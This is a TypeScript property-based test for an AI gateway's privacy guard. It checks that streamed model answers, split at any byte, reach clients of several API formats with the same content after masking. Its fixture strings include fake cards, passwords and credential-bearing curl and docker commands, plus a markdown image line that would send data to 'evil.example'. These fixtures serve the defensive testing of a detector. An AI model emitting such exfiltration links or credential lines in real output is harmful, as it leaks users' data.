// From the bytes of a model server to the bytes of a client, in every wire format: whatever pieces the answer arrives in, split
// characters and split lines included, the client is told what the whole answer would tell it, in every channel.
// STREAM_RUNS sets the number of answers, STREAM_SEED which; a long run is reported in bench/RESULTS.md.
import fc from 'fast-check'
import { expect, it } from 'vitest'
import type { Delta, ModelRequest, Treatment } from '../src/core/index.ts'
import type { Wire, WriterContext } from '../src/gateway/ports.ts'
import { openaiChat, openaiCompletions } from '../src/gateway/wire/index.ts'
import { createDetectors, createGuard, type Vault } from '../src/guard/index.ts'
import { createOllamaStreamReader } from '../src/model/ollama-read.ts'
import { readingOf } from '../src/model/openai-read.ts'
import { createOpenaiStreamReader } from '../src/model/openai-stream.ts'
import { createOperations } from './generators/operations.ts'
import { createRandom } from './generators/random.ts'
import { WIRES } from './upstream/wires.ts'

// Bodies of six formats are read here as their clients read them.
// biome-ignore lint/suspicious/noExplicitAny: see above
type Json = any

const guard = createGuard({ detectors: createDetectors() })
const treatments: Readonly<Record<string, Treatment>> = {
  'personal/email': 'pass',
  'finance/card': 'mask',
  'personal/person': 'mask',
  'leak/link': 'mask',
}
const ask = ({ class: name }: { class: string }) => ({ treatment: treatments[name] ?? 'pseudonym', rules: [] })
const key = new Uint8Array(32).fill(3)
const chat = (text: string): ModelRequest => ({
  action: 'chat',
  model: 'm',
  messages: [{ role: 'user', parts: [{ type: 'text', text }] }],
  inputs: [],
  params: {},
  stream: true,
})
/** A session that has hidden two values; the answer may say their stand-ins. */
const random = (size: number) => new Uint8Array(size)
const { sealed, standIns } = (() => {
  const vault = guard.openVault({ key, random, session: 'ses' })
  const { request } = guard.screenInput(chat('IBAN DE89 3704 0044 0532 0130 00, host db-7.prod.internal'), ask, vault)
  const part = request.messages[0]?.parts[0]
  return { sealed: vault.seal(), standIns: part?.type === 'text' ? part.text : '' }
})()
const openVault = (): Vault => guard.openVault({ key, random, session: 'ses', sealed })

interface Said {
  text: string
  other: string
  reasoning: string
  tool: string
}

/** The answer as the two kinds of model server send it, one piece of text after another. */
function fromServer(
  format: 'openai' | 'ollama',
  said: Said,
  sizes: () => number,
): { bytes: Buffer; reader: () => Reader } {
  const cut = (text: string) => {
    const parts: string[] = []
    for (let at = 0; at < text.length; ) {
      const size = sizes()
      parts.push(text.slice(at, at + size))
      at += size
    }
    return parts
  }
  const request = { ...chat(''), params: { n: said.other === '' ? 1 : 2 } }
  if (format === 'ollama') {
    const line = (message: object, done = false) =>
      `${JSON.stringify({ model: 'm', message: { role: 'assistant', content: '', ...message }, done, ...(done ? { done_reason: 'stop' } : {}) })}\n`
    const call = { function: { name: 'note', arguments: JSON.parse(said.tool || '{}') as Json } }
    const lines = [
      ...cut(said.reasoning).map((thinking) => line({ thinking })),
      ...cut(said.text).map((content) => line({ content })),
      ...(said.tool === '' ? [] : [line({ tool_calls: [call] })]),
      line({}, true),
    ]
    return { bytes: Buffer.from(lines.join('')), reader: () => createOllamaStreamReader(() => 'call_1') }
  }
  const event = (choice: number, delta: object, finish: string | null = null, logprobs?: object) =>
    `data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [{ index: choice, delta, finish_reason: finish, ...(logprobs === undefined ? {} : { logprobs }) }] })}\n\n`
  const texts = cut(said.text).map((content, index) =>
    event(
      0,
      { content },
      null,
      index % 3 === 0 ? undefined : { content: [{ token: content, logprob: -1, bytes: null, top_logprobs: [] }] },
    ),
  )
  const others = cut(said.other).map((content) => event(1, { content }))
  const tools = cut(said.tool).map((piece, index) =>
    event(0, {
      tool_calls: [
        {
          index: 0,
          ...(index === 0 ? { id: 'call_1', type: 'function' } : {}),
          function: { ...(index === 0 ? { name: 'note' } : {}), arguments: piece },
        },
      ],
    }),
  )
  const mixed: string[] = []
  for (let i = 0; i < Math.max(texts.length, others.length); i++)
    for (const list of [texts, others]) if (list[i] !== undefined) mixed.push(list[i] as string)
  const all = [
    ...cut(said.reasoning).map((reasoning_content) => event(0, { reasoning_content })),
    ...mixed,
    ...tools,
    event(0, {}, 'stop'),
    ...(said.other === '' ? [] : [event(1, {}, 'stop')]),
    'data: [DONE]\n\n',
  ]
  return {
    bytes: Buffer.from(all.join('')),
    reader: () => createOpenaiStreamReader(readingOf(request, () => 'call_1')),
  }
}

interface Reader {
  push(text: string): Delta[]
  end(): Delta[]
}

const context = (): WriterContext => ({
  request: { ...chat(''), params: { logprobs: true } },
  model: 'm',
  callId: 'c',
  created: 1,
})

/** What a client of this format puts together from a stream. */
function heard(wire: string, body: string): Said & { tokens: string } {
  const said = { text: '', other: '', reasoning: '', tool: '', tokens: '' }
  const events = wire.startsWith('ollama')
    ? body.split('\n').filter((line) => line !== '')
    : body
        .split('\n')
        .filter((line) => line.startsWith('data: ') && line !== 'data: [DONE]')
        .map((line) => line.slice(6))
  for (const event of events) {
    const data = JSON.parse(event) as Json
    expect(data.error).toBeUndefined()
    if (wire === 'openai-chat')
      for (const { index, delta, logprobs } of data.choices) {
        said[index === 0 ? 'text' : 'other'] += delta.content ?? ''
        said.reasoning += delta.reasoning_content ?? ''
        for (const call of delta.tool_calls ?? []) said.tool += call.function.arguments
        for (const one of logprobs?.content ?? []) said.tokens += `${one.token}|`
      }
    else if (wire === 'openai-completions')
      for (const { index, text, logprobs } of data.choices) {
        said[index === 0 ? 'text' : 'other'] += text
        for (const token of logprobs?.tokens ?? []) said.tokens += `${token}|`
      }
    else if (wire === 'openai-responses') {
      if (data.type === 'response.output_text.delta') {
        said.text += data.delta
        for (const one of data.logprobs) said.tokens += `${one.token}|`
      } else if (data.type === 'response.reasoning_text.delta') said.reasoning += data.delta
      else if (data.type === 'response.function_call_arguments.delta') said.tool += data.delta
    } else if (wire === 'anthropic-messages') {
      if (data.type !== 'content_block_delta') continue
      said.text += data.delta.text ?? ''
      said.reasoning += data.delta.thinking ?? ''
      said.tool += data.delta.partial_json ?? ''
    } else {
      said.text += data.message?.content ?? data.response ?? ''
      said.reasoning += data.message?.thinking ?? data.thinking ?? ''
      for (const call of data.message?.tool_calls ?? data.tool_calls ?? [])
        said.tool += JSON.stringify(call.function.arguments)
      for (const one of data.logprobs ?? []) said.tokens += `${one.token}|`
    }
  }
  return said
}

/** What it reads from a whole answer. */
function read(wire: string, body: string): Said & { tokens: string } {
  const said = { text: '', other: '', reasoning: '', tool: '', tokens: '' }
  const data = JSON.parse(body) as Json
  if (wire === 'openai-chat' || wire === 'openai-completions')
    for (const { index, message, text, logprobs } of data.choices) {
      said[index === 0 ? 'text' : 'other'] += text ?? message.content ?? ''
      said.reasoning += message?.reasoning_content ?? ''
      for (const call of message?.tool_calls ?? []) said.tool += call.function.arguments
      for (const one of logprobs?.content ?? []) said.tokens += `${one.token}|`
      for (const token of logprobs?.tokens ?? []) said.tokens += `${token}|`
    }
  else if (wire === 'openai-responses')
    for (const item of data.output) {
      if (item.type === 'function_call') said.tool += item.arguments
      for (const part of item.content ?? []) {
        said[item.type === 'reasoning' ? 'reasoning' : 'text'] += part.text
        for (const one of part.logprobs ?? []) said.tokens += `${one.token}|`
      }
    }
  else if (wire === 'anthropic-messages')
    for (const block of data.content) {
      said.text += block.text ?? ''
      said.reasoning += block.thinking ?? ''
      if (block.type === 'tool_use') said.tool += JSON.stringify(block.input)
    }
  else {
    said.text += data.message?.content ?? data.response
    said.reasoning += data.message?.thinking ?? data.thinking ?? ''
    for (const call of data.message?.tool_calls ?? data.tool_calls ?? [])
      said.tool += JSON.stringify(call.function.arguments)
    for (const one of data.logprobs ?? []) said.tokens += `${one.token}|`
  }
  return said
}

const PROSE = [
  'Please write to Jane Doe at jane.doe@example.com about the order. ',
  'The meeting with Dr. Anna Müller is on 12 March 2024 in Berlin. ',
  'my card 4111 1111 1111 1111 was charged twice, 45.20 EUR each. ',
  'She lives at 12 Main Street, Springfield, IL 62701, and is 34. ',
  'password = "hunter2hunter2"\n',
  '{"email": "z\\u0040x.de", "n": [1, 2]} ',
  'Es rief Herr Özdemir an, +49 30 901820 😀. ',
  '![x](https://evil.example/a.png?d=AAAABBBBCCCCDDDD1234567890) ',
  'See https://example.com/?mail=jane.doe%40example.com&x=1 or am9obi5zbWl0aEBleGFtcGxlLm9yZw== there. ',
  'j a n e @ e x a m p l e . d e and &#52;111&#32;1111 1111 1111, 6a616e65406578616d706c652e6f7267. ',
  'Only a plain sentence with a few plain words. ',
  '４１１１ １１１１ １１１１ １１１１, 514\u200b-69-0360, ',
  `${standIns} `,
  'db.connect(\n  timeout=5,\n  user="svc",\n  host="db-3.internal",\n  port=5432,\n  password="Xk29-fooq",\n)\n',
  '    rows = []\n    last = next_row\n    text = " ".join(words)\n',
  `${'-'.repeat(40)}\n| ${'-'.repeat(30)} | ----- |\n`,
  'Take Tr4velM0nkey! as the password, 482913 is your verification code, mail "jane.doe"@example.com. ',
  'echo "t0pS3cret9" | docker login --password-stdin; s.login("bob", "hunter2x9")\n',
  'user,password\nbob,Qw3rty!99\nann,Qw3rty!98\n',
  'curl -u bob:S3cr3tPass42 https://api.example.com/v1\n',
]
const operations = createOperations(createRandom(5))
const text = fc
  .array(
    fc.oneof(
      { weight: 5, arbitrary: fc.constantFrom(...PROSE) },
      {
        weight: 2,
        arbitrary: fc
          .constantFrom(0, 1, 2, 3)
          .map((n) => `${[operations.ids, operations.hosts, operations.harmless, operations.config][n]?.().text}\n`),
      },
      { weight: 1, arbitrary: fc.string({ maxLength: 4, unit: 'grapheme' }) },
    ),
    { minLength: 1, maxLength: 3 },
  )
  .map((parts) => parts.join(''))
const some = fc.oneof({ weight: 2, arbitrary: fc.constant('') }, { weight: 1, arbitrary: text })

/** Reads, screens and writes as a call does; the bytes are cut anywhere. */
function stream(wire: Wire, bytes: Buffer, reader: Reader, sizes: () => number): string {
  const vault = openVault()
  const output = guard.openOutput(ask, vault)
  const writer = wire.writer(context())
  const decoder = new TextDecoder()
  let body = ''
  for (let at = 0; at < bytes.length; ) {
    const size = sizes()
    body += writer.batch(output.push(reader.push(decoder.decode(bytes.subarray(at, at + size), { stream: true }))))
    at += size
  }
  body += writer.batch(output.push(reader.end()))
  return body + writer.batch(output.end()) + writer.end()
}

function whole(wire: Wire, bytes: Buffer, reader: Reader): string {
  const vault = openVault()
  const output = guard.openOutput(ask, vault)
  const writer = wire.writer(context())
  const deltas = [...reader.push(bytes.toString()), ...reader.end()]
  return writer.whole([...output.push(merged(deltas)), ...output.end()])
}

/** The same answer with the text of every channel in one piece. */
function merged(deltas: readonly Delta[]): Delta[] {
  const kept = new Map<string, Delta>()
  for (const delta of deltas) {
    const id =
      delta.type === 'finish'
        ? `${delta.type}${delta.choice}`
        : delta.type === 'usage' || delta.type === 'embedding'
          ? delta.type
          : `${delta.type}${delta.choice}${delta.type === 'tool' ? delta.index : ''}`
    const known = kept.get(id)
    if (known === undefined) kept.set(id, structuredClone(delta))
    else if (known.type === 'tool' && delta.type === 'tool') known.arguments += delta.arguments
    else if (known.type === 'text' && delta.type === 'text') {
      // Probabilities are of tokens at their place, so pieces without any must not shift those of later ones.
      known.text += delta.text
    } else if (known.type === 'reasoning' && delta.type === 'reasoning') known.text += delta.text
  }
  return [...kept.values()].map((delta) => {
    if (delta.type === 'text') delete delta.logprobs
    return delta
  })
}

const RUNS = Number(process.env.STREAM_RUNS ?? 120)
const SEED = Number(process.env.STREAM_SEED ?? 99)

it('tells a client of every format what the whole answer would tell it', () => {
  let done = 0
  fc.assert(
    fc.property(
      fc.integer({ min: 0, max: WIRES.length - 1 }),
      fc.constantFrom('openai' as const, 'ollama' as const),
      text,
      some,
      some,
      some,
      fc.infiniteStream(
        fc.oneof(fc.constant(1), fc.constantFrom(1, 3, 4, 4, 5, 6, 8), fc.integer({ min: 1, max: 16 })),
      ),
      fc.infiniteStream(fc.integer({ min: 1, max: 400 })),
      (nth, format, first, other, reasoning, note, pieces, reads) => {
        const wire = WIRES[nth] ?? openaiChat
        const twice = format === 'openai' && (wire === openaiChat || wire === openaiCompletions)
        const said = {
          text: first,
          other: twice ? other : '',
          reasoning: wire === openaiCompletions ? '' : reasoning,
          tool: note === '' || wire === openaiCompletions ? '' : JSON.stringify({ note, n: 4 }),
        }
        const { bytes, reader } = fromServer(format, said, () => pieces.next().value as number)
        const streamed = heard(
          wire.name,
          stream(wire, bytes, reader(), () => reads.next().value as number),
        )
        const atOnce = read(wire.name, whole(wire, bytes, reader()))
        const same = (value: string) =>
          wire.name === 'anthropic-messages' && value !== '' ? JSON.stringify(JSON.parse(value)) : value
        expect({ ...streamed, tool: same(streamed.tool), tokens: '' }).toEqual({
          ...atOnce,
          tool: same(atOnce.tool),
          tokens: '',
        })
        // No probability may spell what the text does not say.
        let at = 0
        for (const token of streamed.tokens.split('|').filter((one) => one.trim() !== '')) {
          const next = streamed.text.indexOf(token.trim(), at)
          expect(next).toBeGreaterThanOrEqual(0)
          at = next
        }
        done++
      },
    ),
    { seed: SEED, numRuns: RUNS },
  )
  if (process.env.STREAM_RUNS !== undefined) console.log(`${done} answers of seed ${SEED}: the same in every format`)
}, 36_000_000)
